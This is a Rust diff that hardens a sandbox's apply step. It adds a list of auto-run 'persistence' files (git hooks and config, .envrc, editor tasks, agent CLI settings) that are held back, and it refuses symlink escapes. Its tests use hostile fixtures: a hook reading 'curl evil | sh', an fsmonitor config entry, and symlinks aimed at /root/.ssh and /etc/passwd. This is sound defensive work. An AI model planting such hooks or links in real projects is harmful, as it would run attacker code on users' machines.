@@ -6,8 +6,11 @@
 //! character device 0:0) for every deletion, and an "opaque" mark on a directory that was
 //! deleted and made again. Each becomes one [`Change`].
 
+use std::ffi::OsStr;
 use std::fs;
 use std::io;
+use std::os::fd::OwnedFd;
+use std::os::unix::ffi::OsStrExt;
 use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
 use std::path::{Component, Path, PathBuf};
 use std::time::{Duration, SystemTime, UNIX_EPOCH};
@@ -64,14 +67,86 @@ pub struct Change {
 
 const OPAQUE_XATTR: &str = "user.overlay.opaque";
 
-/// Paths in a project that make the host run something later: git hooks and config (hooks,
-/// `core.hooksPath`, `core.fsmonitor`, filters), direnv's `.envrc`, editor tasks. `run` mounts
-/// the existing ones read-only; `apply` refuses changes to any of them without `--force`.
-pub const PROTECTED: &[&str] = &[".git/hooks", ".git/config", ".git/info/attributes", ".envrc", ".vscode/tasks.json"];
+/// Files in a project that make the host run code later without the user asking: persistence.
+/// Each matches at any depth of the workdir (a pattern's components appear in order anywhere in
+/// the path; `*` is one component, `*.x` a name ending in `.x`), and what lies under it is
+/// persistence too. `docs/sandbox.md` says why each is here. `run` mounts the existing top-level
+/// ones read-only; `apply` holds back changes to any of them unless forced.
+pub const PERSISTENCE: &[&str] = &[
+    // git: hooks, and config keys that run commands (core.fsmonitor, core.hooksPath,
+    // core.sshCommand, core.pager, filters, diff textconv, `!` aliases); `commondir` redirects
+    // a repository to another's config and hooks; attributes name the filters to run.
+    ".git/hooks",
+    ".git/config",
+    ".git/config.worktree",
+    ".git/commondir",
+    ".git/info/attributes",
+    // Hooks managers and environment loaders that run on `cd` or on a git operation.
+    ".husky",
+    ".envrc",
+    "mise.toml",
+    ".mise.toml",
+    "mise.local.toml",
+    ".mise",
+    ".tool-versions",
+    // Package managers' project config: registries, scripts' shells, plugins that load code.
+    ".yarnrc.yml",
+    ".yarnrc",
+    ".npmrc",
+    // Editors and IDEs that run tasks or load settings that run programs when a folder opens.
+    ".vscode/tasks.json",
+    ".vscode/settings.json",
+    "*.code-workspace",
+    ".idea",
+    ".devcontainer",
+    // Agent CLIs' project settings: hooks and MCP servers they start.
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".mcp.json",
+    ".codex/config.toml",
+];
 
-/// True when `rel` (relative to the workdir) is or lies under a [`PROTECTED`] path.
+/// True when `rel` (relative to the workdir) is, or lies under, a [`PERSISTENCE`] path at any
+/// depth. Inside a `.git` directory, submodules' and worktrees' own directories
+/// (`.git/modules/NAME/…`, `.git/worktrees/NAME/…`, at any nesting) count as `.git` again.
 pub fn is_protected(rel: &Path) -> bool {
-    PROTECTED.iter().any(|p| rel.starts_with(p))
+    let parts: Vec<&OsStr> = rel.components().map(Component::as_os_str).collect();
+    (0..parts.len()).any(|start| {
+        let rest = &parts[start..];
+        (rest[0] == ".git" && git_rest_is_protected(&rest[1..]))
+            || PERSISTENCE.iter().any(|pattern| window_matches(pattern, rest))
+    })
+}
+
+/// What follows a `.git/` is persistence. Under `modules/` and `worktrees/` (whose names may
+/// hold slashes, and nest), a submodule's or worktree's own hooks and config anywhere below.
+fn git_rest_is_protected(rest: &[&OsStr]) -> bool {
+    let git = || PERSISTENCE.iter().filter_map(|p| p.strip_prefix(".git/"));
+    if rest.first().is_some_and(|p| *p == "modules" || *p == "worktrees") {
+        return (1..rest.len()).any(|i| git().any(|pattern| window_matches(pattern, &rest[i..])));
+    }
+    git().any(|pattern| window_matches(pattern, rest))
+}
+
+/// `parts` begins with `pattern`'s components (`*` any one component; `*.x` a name ending in `.x`).
+fn window_matches(pattern: &str, parts: &[&OsStr]) -> bool {
+    let pattern: Vec<&str> = pattern.split('/').collect();
+    pattern.len() <= parts.len()
+        && pattern.iter().zip(parts).all(|(p, part)| match p.strip_prefix('*') {
+            Some("") => true,
+            Some(suffix) => part.as_encoded_bytes().ends_with(suffix.as_bytes()) && part.len() > suffix.len(),
+            None => *part == *p,
+        })
+}
+
+/// True when `change` makes the host run code later: a [`PERSISTENCE`] path, a `.git` that is
+/// not a directory (a `gitdir:` file points git at another repository's config and hooks; one
+/// present at the start is no change), or a path `extra` lists (the policy file, and files the
+/// policy names, relative to the workdir).
+pub fn is_persistence(change: &Change, extra: &[PathBuf]) -> bool {
+    is_protected(&change.path)
+        || (change.path.file_name().is_some_and(|n| n == ".git") && change.entry != EntryType::Dir)
+        || extra.iter().any(|e| change.path.starts_with(e))
 }
 
 /// True when the overlay's upper layer holds nothing: the session changed nothing in the
@@ -159,16 +234,14 @@ pub enum ApplyError {
     /// A change's path leaves the workdir or passes through a symlink there.
     #[error("`{0}` is not a plain path inside the workdir (it leaves it or passes through a symlink)")]
     Unsafe(PathBuf),
-    /// A change would make the host run something later.
-    #[error("`{0}` is a git hook, git config or auto-run file; review it and pass --force to apply it")]
-    Protected(PathBuf),
-    /// A new symlink points outside the workdir.
-    #[error("`{path}` is a symlink to `{target}`, outside the workdir; pass --force to apply it anyway")]
-    SymlinkOut {
-        /// The link.
+    /// The workdir cannot be opened.
+    #[error("cannot open the workdir `{path}`")]
+    Workdir {
+        /// The workdir.
         path: PathBuf,
-        /// Its target.
-        target: PathBuf,
+        /// The error.
+        #[source]
+        source: io::Error,
     },
     /// A file operation failed.
     #[error("cannot apply `{path}`")]
@@ -179,6 +252,42 @@ pub enum ApplyError {
         #[source]
         source: io::Error,
     },
+}
+
+/// Why `apply` held a change back instead of applying it.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case", tag = "reason")]
+pub enum Held {
+    /// The change would make the host run code later ([`is_persistence`]).
+    Persistence,
+    /// A symlink whose target may resolve outside the workdir.
+    SymlinkOut {
+        /// Its target.
+        target: PathBuf,
+    },
+    /// A symlink that would replace a directory (and everything in it).
+    SymlinkOverDirectory,
+}
+
+impl std::fmt::Display for Held {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Held::Persistence => f.write_str("makes the host run code later (git hooks or config, an auto-run file)"),
+            Held::SymlinkOut { target } => {
+                write!(f, "a symlink to `{}`, which may resolve outside the workdir", target.display())
+            }
+            Held::SymlinkOverDirectory => f.write_str("a symlink that would replace a directory"),
+        }
+    }
+}
+
+/// What [`apply`] did.
+#[derive(Debug, Default)]
+pub struct Applied {
+    /// How many changes were applied.
+    pub applied: usize,
+    /// The changes held back, each with why (nothing of them was written).
+    pub held: Vec<(PathBuf, Held)>,
 }
 
 /// The paths among `changes` that changed in the workdir itself since `since` (the session's
@@ -232,106 +341,243 @@ fn ctime(meta: &fs::Metadata) -> SystemTime {
     UNIX_EPOCH + Duration::new(u64::try_from(meta.ctime()).unwrap_or(0), u32::try_from(meta.ctime_nsec()).unwrap_or(0))
 }
 
-/// Copies `changes` from `saved` into `workdir`. Refuses, before writing anything, a path that
-/// would pass through a symlink in the workdir and (unless `force`) a new symlink pointing out
-/// of it.
-pub fn apply(changes: &[Change], saved: &Path, workdir: &Path, force: bool) -> Result<usize, ApplyError> {
+/// Copies `changes` from `saved` into `workdir`, holding back (unless `force`) each change
+/// that is persistence ([`is_persistence`], with `extra` paths of the session's own) or a
+/// symlink that may resolve outside the workdir, and (even with `force`) a symlink that would
+/// replace a directory. Refuses, before writing anything, a path that leaves the workdir or
+/// passes through a symlink in it.
+///
+/// SECURITY: every destination is opened beneath the workdir's descriptor with `openat2`
+/// (`RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS`), and every file is made with `O_NOFOLLOW`: no
+/// symlink is followed, whether it was in the workdir before or made earlier in this apply. A
+/// lexical check of a link's target is fooled by links (`l1 -> .`, `sub -> l1/l1/../../x`), so
+/// a target counts as inside only when it is relative and any `..` in it comes first and does
+/// not climb above the workdir.
+pub fn apply(
+    changes: &[Change],
+    saved: &Path,
+    workdir: &Path,
+    force: bool,
+    extra: &[PathBuf],
+) -> Result<Applied, ApplyError> {
+    use rustix::fs::{Mode, OFlags, open};
+    let root = open(workdir, OFlags::DIRECTORY | OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty())
+        .map_err(|e| ApplyError::Workdir { path: workdir.to_path_buf(), source: e.into() })?;
+    let mut out = Applied::default();
+    let mut todo = Vec::new();
     for change in changes {
-        check_plain(workdir, &change.path)?;
-        if is_protected(&change.path) && !force {
-            return Err(ApplyError::Protected(change.path.clone()));
+        if change.path.as_os_str().is_empty() || change.path.components().any(|c| !matches!(c, Component::Normal(_))) {
+            return Err(ApplyError::Unsafe(change.path.clone()));
         }
-        if change.entry == EntryType::Symlink && !force {
+        let parent = change.path.parent().unwrap_or(Path::new(""));
+        // The deepest existing ancestor must be reached without a symlink.
+        if let Err(e) = deepest_existing(&root, parent) {
+            return Err(
+                if e == rustix::io::Errno::LOOP || e == rustix::io::Errno::XDEV || e == rustix::io::Errno::NOTDIR {
+                    ApplyError::Unsafe(change.path.clone())
+                } else {
+                    ApplyError::Io { path: change.path.clone(), source: e.into() }
+                },
+            );
+        }
+        let held = if is_persistence(change, extra) && !force {
+            Some(Held::Persistence)
+        } else if change.entry == EntryType::Symlink {
             let target = fs::read_link(saved.join(&change.path))
                 .map_err(|source| ApplyError::Io { path: change.path.clone(), source })?;
-            let base = workdir.join(&change.path).parent().map(Path::to_path_buf).unwrap_or_default();
-            if !lexically_inside(&base.join(&target), workdir) {
-                return Err(ApplyError::SymlinkOut { path: change.path.clone(), target });
+            let over_dir = dir_at(&root, &change.path);
+            if over_dir {
+                Some(Held::SymlinkOverDirectory)
+            } else if !force && !link_stays_inside(&change.path, &target) {
+                Some(Held::SymlinkOut { target })
+            } else {
+                None
             }
+        } else {
+            None
+        };
+        match held {
+            Some(why) => out.held.push((change.path.clone(), why)),
+            None => todo.push(change),
         }
     }
-    for change in changes {
-        let dest = workdir.join(&change.path);
-        let io = |source| ApplyError::Io { path: change.path.clone(), source };
-        let meta = fs::symlink_metadata(&dest).ok();
-        let remove = |m: &fs::Metadata| if m.is_dir() { fs::remove_dir_all(&dest) } else { fs::remove_file(&dest) };
+    // A held-back path's children are held back with it (a new directory of hooks).
+    let held_dirs: Vec<PathBuf> = out.held.iter().map(|(p, _)| p.clone()).collect();
+    for change in todo {
+        if held_dirs.iter().any(|h| change.path.starts_with(h) && change.path != *h) {
+            out.held.push((change.path.clone(), Held::Persistence));
+            continue;
+        }
+        let io = |source: io::Error| ApplyError::Io { path: change.path.clone(), source };
+        let errno = |e: rustix::io::Errno| io(e.into());
+        let parent_rel = change.path.parent().unwrap_or(Path::new(""));
+        let name = change.path.file_name().ok_or_else(|| ApplyError::Unsafe(change.path.clone()))?;
+        let parent = open_dirs_beneath(&root, parent_rel).map_err(errno)?;
+        let existing = rustix::fs::statat(&parent, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW).ok();
+        let is_dir = existing.as_ref().is_some_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir());
         match change.entry {
             EntryType::None => {
-                if let Some(m) = &meta {
-                    remove(m).map_err(io)?;
+                if existing.is_some() {
+                    remove_at(&parent, name, is_dir).map_err(errno)?;
                 }
             }
             EntryType::Dir => {
-                if let Some(m) = meta.as_ref().filter(|m| !m.is_dir()) {
-                    remove(m).map_err(io)?;
+                if existing.is_some() && !is_dir {
+                    remove_at(&parent, name, false).map_err(errno)?;
                 }
-                fs::create_dir_all(&dest).map_err(io)?;
+                if existing.is_none() || !is_dir {
+                    rustix::fs::mkdirat(&parent, name, Mode::from_raw_mode(0o755)).map_err(errno)?;
+                }
             }
-            EntryType::File | EntryType::Symlink => {
-                if let Some(m) = meta.as_ref().filter(|m| m.is_dir() || change.entry == EntryType::Symlink) {
-                    remove(m).map_err(io)?;
+            EntryType::Symlink => {
+                if existing.is_some() {
+                    remove_at(&parent, name, is_dir).map_err(errno)?;
                 }
-                if let Some(parent) = dest.parent() {
-                    fs::create_dir_all(parent).map_err(io)?;
+                let target = fs::read_link(saved.join(&change.path)).map_err(io)?;
+                rustix::fs::symlinkat(&target, &parent, name).map_err(errno)?;
+            }
+            EntryType::File => {
+                if existing.is_some() {
+                    // Never write through what is there: a symlink is replaced, not followed.
+                    remove_at(&parent, name, is_dir).map_err(errno)?;
                 }
-                let from = saved.join(&change.path);
-                if change.entry == EntryType::Symlink {
-                    std::os::unix::fs::symlink(fs::read_link(&from).map_err(io)?, &dest).map_err(io)?;
-                } else {
-                    if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
-                        fs::remove_file(&dest).map_err(io)?;
-                    }
-                    fs::copy(&from, &dest).map_err(io)?;
-                    // SECURITY: never a setuid or setgid file from a session (the walls refuse
-                    // the bits; a degraded session may lack them).
-                    let mode = fs::metadata(&dest).map_err(io)?.permissions().mode();
-                    if mode & 0o6000 != 0 {
-                        fs::set_permissions(&dest, fs::Permissions::from_mode(mode & 0o1777)).map_err(io)?;
-                    }
-                }
+                let from = fs::File::open(saved.join(&change.path)).map_err(io)?;
+                // SECURITY: never a setuid or setgid file from a session (the walls refuse
+                // the bits; a degraded session may lack them).
+                let mode = from.metadata().map_err(io)?.permissions().mode() & 0o777;
+                let fd = rustix::fs::openat2(
+                    &parent,
+                    name,
+                    OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                    Mode::from_raw_mode(mode),
+                    BENEATH,
+                )
+                .map_err(errno)?;
+                let mut to = fs::File::from(fd);
+                io::copy(&mut &from, &mut to).map_err(io)?;
+                rustix::fs::fchmod(&to, Mode::from_raw_mode(mode)).map_err(errno)?;
             }
         }
         // Applied by root, a new path takes its directory's owner rather than root's.
-        if meta.is_none() && change.entry != EntryType::None && rustix::process::geteuid().is_root() {
-            let owner = dest.parent().and_then(|p| fs::metadata(p).ok());
-            if let Some(owner) = owner {
-                std::os::unix::fs::lchown(&dest, Some(owner.uid()), Some(owner.gid())).map_err(io)?;
-            }
+        if existing.is_none() && change.entry != EntryType::None && rustix::process::geteuid().is_root() {
+            let owner = rustix::fs::fstat(&parent).map_err(errno)?;
+            rustix::fs::chownat(
+                &parent,
+                name,
+                Some(rustix::fs::Uid::from_raw(owner.st_uid)),
+                Some(rustix::fs::Gid::from_raw(owner.st_gid)),
+                rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
+            )
+            .map_err(errno)?;
         }
+        out.applied += 1;
     }
-    Ok(changes.len())
+    Ok(out)
 }
 
-/// Every existing ancestor of `rel` under `workdir` is a real directory, and `rel` has only
-/// normal components.
-fn check_plain(workdir: &Path, rel: &Path) -> Result<(), ApplyError> {
-    if rel.components().any(|c| !matches!(c, Component::Normal(_))) {
-        return Err(ApplyError::Unsafe(rel.to_path_buf()));
+/// Resolution for every open beneath the workdir: never out of it, never through a symlink.
+const BENEATH: rustix::fs::ResolveFlags =
+    rustix::fs::ResolveFlags::BENEATH.union(rustix::fs::ResolveFlags::NO_SYMLINKS);
+
+/// Opens the directory `rel` beneath `root` (the root itself when empty).
+fn open_beneath(root: &OwnedFd, rel: &Path) -> rustix::io::Result<OwnedFd> {
+    use rustix::fs::{Mode, OFlags};
+    let rel = if rel.as_os_str().is_empty() { Path::new(".") } else { rel };
+    rustix::fs::openat2(root, rel, OFlags::DIRECTORY | OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty(), BENEATH)
+}
+
+/// Opens the directory `rel` beneath `root`, making the directories missing on the way (each
+/// made by root taking its parent's owner).
+fn open_dirs_beneath(root: &OwnedFd, rel: &Path) -> rustix::io::Result<OwnedFd> {
+    let mut dir = open_beneath(root, Path::new(""))?;
+    for part in rel.components() {
+        let name = part.as_os_str();
+        match open_beneath(&dir, Path::new(name)) {
+            Ok(next) => dir = next,
+            Err(rustix::io::Errno::NOENT) => {
+                rustix::fs::mkdirat(&dir, name, rustix::fs::Mode::from_raw_mode(0o755))?;
+                if rustix::process::geteuid().is_root() {
+                    let owner = rustix::fs::fstat(&dir)?;
+                    rustix::fs::chownat(
+                        &dir,
+                        name,
+                        Some(rustix::fs::Uid::from_raw(owner.st_uid)),
+                        Some(rustix::fs::Gid::from_raw(owner.st_gid)),
+                        rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
+                    )?;
+                }
+                dir = open_beneath(&dir, Path::new(name))?;
+            }
+            Err(e) => return Err(e),
+        }
     }
-    let mut at = workdir.to_path_buf();
-    let parts: Vec<_> = rel.components().collect();
-    for part in parts.iter().take(parts.len().saturating_sub(1)) {
-        at.push(part);
-        match fs::symlink_metadata(&at) {
-            Ok(m) if m.file_type().is_symlink() => return Err(ApplyError::Unsafe(rel.to_path_buf())),
-            _ => {}
+    Ok(dir)
+}
+
+/// Walks `rel` beneath `root` as far as it exists; an error when a part is a symlink (`ELOOP`)
+/// or not a directory.
+fn deepest_existing(root: &OwnedFd, rel: &Path) -> Result<(), rustix::io::Errno> {
+    let mut dir = open_beneath(root, Path::new(""))?;
+    for part in rel.components() {
+        match open_beneath(&dir, Path::new(part.as_os_str())) {
+            Ok(next) => dir = next,
+            Err(rustix::io::Errno::NOENT) => return Ok(()),
+            Err(e) => return Err(e),
         }
     }
     Ok(())
 }
 
-fn lexically_inside(path: &Path, root: &Path) -> bool {
-    let mut out = PathBuf::new();
-    for c in path.components() {
-        match c {
-            Component::ParentDir => {
-                out.pop();
-            }
-            Component::CurDir => {}
-            other => out.push(other),
+/// True when `rel` is a real directory beneath `root`.
+fn dir_at(root: &OwnedFd, rel: &Path) -> bool {
+    let (Some(parent), Some(name)) = (rel.parent(), rel.file_name()) else { return false };
+    open_beneath(root, parent)
+        .and_then(|d| rustix::fs::statat(&d, name, rustix::fs::AtFlags::SYMLINK_NOFOLLOW))
+        .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir())
+}
+
+/// Removes `name` in `dir`: a directory with everything in it (never following a symlink), or
+/// anything else.
+fn remove_at(dir: &OwnedFd, name: &OsStr, is_dir: bool) -> rustix::io::Result<()> {
+    use rustix::fs::AtFlags;
+    if !is_dir {
+        return rustix::fs::unlinkat(dir, name, AtFlags::empty());
+    }
+    let sub = open_beneath(dir, Path::new(name))?;
+    let mut names = Vec::new();
+    for entry in rustix::fs::Dir::read_from(&sub)? {
+        let entry = entry?;
+        let n = entry.file_name().to_bytes();
+        if n != b"." && n != b".." {
+            names.push((OsStr::from_bytes(n).to_owned(), entry.file_type() == rustix::fs::FileType::Directory));
         }
     }
-    out.starts_with(root)
+    for (n, d) in names {
+        // Some filesystems leave the type out of the listing.
+        let d = d
+            || rustix::fs::statat(&sub, &n, AtFlags::SYMLINK_NOFOLLOW)
+                .is_ok_and(|st| rustix::fs::FileType::from_raw_mode(st.st_mode).is_dir());
+        remove_at(&sub, &n, d)?;
+    }
+    rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)
+}
+
+/// True when the symlink at `rel` (relative to the workdir) with `target` resolves inside the
+/// workdir however the links it passes resolve: `target` is relative, its `..` parts all come
+/// first, and they climb no higher than the workdir.
+fn link_stays_inside(rel: &Path, target: &Path) -> bool {
+    let depth = rel.components().count().saturating_sub(1);
+    let mut ups = 0;
+    let mut past_ups = false;
+    for c in target.components() {
+        match c {
+            Component::ParentDir if !past_ups => ups += 1,
+            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return false,
+            Component::CurDir => {}
+            Component::Normal(_) => past_ups = true,
+        }
+    }
+    !target.as_os_str().is_empty() && ups <= depth
 }
 
 #[cfg(test)]
@@ -417,7 +663,7 @@ mod tests {
         if as_root {
             std::os::unix::fs::chown(&lower, Some(4242), Some(4242)).unwrap();
         }
-        assert_eq!(apply(&changes, &saved, &lower, false).unwrap(), 4);
+        assert_eq!(apply(&changes, &saved, &lower, false, &[]).unwrap().applied, 4);
         assert_eq!(fs::read_to_string(lower.join("src/main.rs")).unwrap(), "new");
         assert_eq!(fs::metadata(lower.join("src/tool")).unwrap().permissions().mode() & 0o7777, 0o755);
         if as_root {
@@ -444,18 +690,128 @@ mod tests {
     }
 
     #[test]
-    fn apply_refuses_git_hooks_and_config_without_force() {
+    fn apply_holds_back_persistence_and_applies_the_rest() {
         let root = tmp("protected");
         let (saved, work) = (root.join("saved"), root.join("work"));
         fs::create_dir_all(saved.join(".git/hooks")).unwrap();
+        fs::create_dir_all(saved.join("sub/.git")).unwrap();
         fs::create_dir_all(&work).unwrap();
         fs::write(saved.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
-        let hook = Change { path: ".git/hooks/pre-commit".into(), kind: ChangeKind::Added, entry: EntryType::File };
-        assert!(matches!(apply(std::slice::from_ref(&hook), &saved, &work, false), Err(ApplyError::Protected(_))));
-        assert!(!work.join(".git/hooks/pre-commit").exists());
-        assert_eq!(apply(&[hook], &saved, &work, true).unwrap(), 1);
-        assert!(is_protected(Path::new(".git/config")) && !is_protected(Path::new(".git/configs/x")));
-        assert!(!is_protected(Path::new("src/.git/hooks")));
+        fs::write(saved.join(".git/commondir"), "../../elsewhere/.git").unwrap();
+        fs::write(saved.join("sub/.git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
+        fs::write(saved.join("policy.toml"), "").unwrap();
+        fs::write(saved.join("ok.txt"), "fine").unwrap();
+        let c = |p: &str, kind, entry| Change { path: p.into(), kind, entry };
+        let changes = [
+            c(".git/commondir", ChangeKind::Added, EntryType::File),
+            c(".git/hooks/pre-commit", ChangeKind::Added, EntryType::File),
+            c("ok.txt", ChangeKind::Added, EntryType::File),
+            c("policy.toml", ChangeKind::Modified, EntryType::File),
+            c("sub/.git/config", ChangeKind::Added, EntryType::File),
+        ];
+        let done = apply(&changes, &saved, &work, false, &[PathBuf::from("policy.toml")]).unwrap();
+        assert_eq!(done.applied, 1);
+        let held: Vec<String> = done.held.iter().map(|(p, _)| p.display().to_string()).collect();
+        assert_eq!(held, [".git/commondir", ".git/hooks/pre-commit", "policy.toml", "sub/.git/config"]);
+        assert_eq!(fs::read_to_string(work.join("ok.txt")).unwrap(), "fine");
+        for p in [".git", "sub", "policy.toml"] {
+            assert!(fs::symlink_metadata(work.join(p)).is_err(), "{p} was written");
+        }
+        assert_eq!(apply(&changes[..2], &saved, &work, true, &[]).unwrap().applied, 2);
+        assert!(work.join(".git/hooks/pre-commit").exists());
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn persistence_files_are_found_at_any_depth() {
+        for p in [
+            ".git/config",
+            ".git/hooks/pre-commit",
+            "vendor/lib/.git/hooks",
+            ".git/modules/a/hooks/post-checkout",
+            ".git/modules/a/b/modules/c/config",
+            ".git/worktrees/w/commondir",
+            "app/.envrc",
+            ".husky/pre-push",
+            "x/mise.toml",
+            ".tool-versions",
+            "web/.npmrc",
+            "web/.yarnrc.yml",
+            ".vscode/tasks.json",
+            "a/.vscode/settings.json",
+            "team.code-workspace",
+            ".idea/workspace.xml",
+            ".devcontainer/devcontainer.json",
+            ".claude/settings.json",
+            "pkg/.claude/settings.local.json",
+            ".mcp.json",
+            ".codex/config.toml",
+        ] {
+            assert!(is_protected(Path::new(p)), "{p}");
+        }
+        for p in
+            [".git/configs/x", ".git/objects/ab/cd", "src/config", ".vscode/launch.json", "code-workspace", "hooks"]
+        {
+            assert!(!is_protected(Path::new(p)), "{p}");
+        }
+        let file = |p: &str, entry| Change { path: p.into(), kind: ChangeKind::Added, entry };
+        assert!(is_persistence(&file("sub/.git", EntryType::File), &[]), "a gitdir: file");
+        assert!(is_persistence(&file(".git", EntryType::Symlink), &[]));
+        assert!(!is_persistence(&file("sub/.git", EntryType::Dir), &[]));
+    }
+
+    #[test]
+    fn a_symlink_that_looks_inside_but_resolves_outside_is_held_back() {
+        // `ln -s . l1; ln -s l1/l1/l1/l1/../../../../root/.ssh sub`: lexically inside, but l1 is
+        // the directory itself, so the `..`s climb out. `sub` was a real directory.
+        let root = tmp("loops");
+        let (saved, work) = (root.join("saved"), root.join("work"));
+        fs::create_dir_all(&saved).unwrap();
+        fs::create_dir_all(work.join("sub")).unwrap();
+        fs::write(work.join("sub/keep.txt"), "mine").unwrap();
+        std::os::unix::fs::symlink(".", saved.join("l1")).unwrap();
+        std::os::unix::fs::symlink("l1/l1/l1/l1/../../../../root/.ssh", saved.join("sub")).unwrap();
+        std::os::unix::fs::symlink("l1/l1/../../etc", saved.join("new")).unwrap();
+        std::os::unix::fs::symlink("../x", saved.join("up")).unwrap();
+        let link = |p: &str| Change { path: p.into(), kind: ChangeKind::Added, entry: EntryType::Symlink };
+        let mut sub = link("sub");
+        sub.kind = ChangeKind::Modified;
+        let changes = [link("l1"), link("new"), sub, link("up")];
+        let done = apply(&changes, &saved, &work, false, &[]).unwrap();
+        assert_eq!(done.applied, 1, "{:?}", done.held);
+        assert!(matches!(done.held[0], (ref p, Held::SymlinkOut { .. }) if p == Path::new("new")));
+        assert!(matches!(done.held[1], (ref p, Held::SymlinkOverDirectory) if p == Path::new("sub")));
+        assert!(matches!(done.held[2], (ref p, Held::SymlinkOut { .. }) if p == Path::new("up")));
+        assert_eq!(fs::read_to_string(work.join("sub/keep.txt")).unwrap(), "mine");
+        // Never over a directory, even forced.
+        let done = apply(&changes[2..3], &saved, &work, true, &[]).unwrap();
+        assert_eq!(done.held.len(), 1);
+        assert!(work.join("sub").is_dir() && !work.join("sub").is_symlink());
+        // Inside: relative, with its `..`s first and not above the workdir.
+        assert!(link_stays_inside(Path::new("a/b/link"), Path::new("../../c/d")));
+        assert!(!link_stays_inside(Path::new("a/link"), Path::new("../../c")));
+        assert!(!link_stays_inside(Path::new("link"), Path::new("/etc")));
+        assert!(!link_stays_inside(Path::new("a/link"), Path::new("b/../..")));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn apply_never_follows_a_link_it_made_earlier() {
+        let root = tmp("earlier");
+        let (saved, work, outside) = (root.join("saved"), root.join("work"), root.join("outside"));
+        fs::create_dir_all(saved.join("d")).unwrap();
+        fs::create_dir_all(&work).unwrap();
+        fs::create_dir_all(&outside).unwrap();
+        std::os::unix::fs::symlink(&outside, saved.join("e")).unwrap();
+        fs::write(saved.join("d/f"), "x").unwrap();
+        // A forged list: `e` a link out (forced), then a file through it.
+        let changes = [
+            Change { path: "e".into(), kind: ChangeKind::Added, entry: EntryType::Symlink },
+            Change { path: "e/f".into(), kind: ChangeKind::Added, entry: EntryType::File },
+        ];
+        let e = apply(&changes, &saved, &work, true, &[]).unwrap_err();
+        assert!(matches!(e, ApplyError::Io { .. }), "{e}");
+        assert!(!outside.join("f").exists(), "a file was written through the link");
         fs::remove_dir_all(&root).unwrap();
     }
 
@@ -467,11 +823,12 @@ mod tests {
         fs::create_dir_all(&work).unwrap();
         std::os::unix::fs::symlink("/etc/passwd", saved.join("evil")).unwrap();
         let link = Change { path: "evil".into(), kind: ChangeKind::Added, entry: EntryType::Symlink };
-        assert!(matches!(apply(&[link], &saved, &work, false), Err(ApplyError::SymlinkOut { .. })));
+        let done = apply(&[link], &saved, &work, false, &[]).unwrap();
+        assert!(matches!(done.held[..], [(_, Held::SymlinkOut { .. })]), "{:?}", done.held);
         assert!(fs::symlink_metadata(work.join("evil")).is_err());
         std::os::unix::fs::symlink("/tmp", work.join("d")).unwrap();
         let through = Change { path: "d/x".into(), kind: ChangeKind::Added, entry: EntryType::File };
-        assert!(matches!(apply(&[through], &saved, &work, false), Err(ApplyError::Unsafe(_))));
+        assert!(matches!(apply(&[through], &saved, &work, false, &[]), Err(ApplyError::Unsafe(_))));
         fs::remove_dir_all(&root).unwrap();
     }
 }
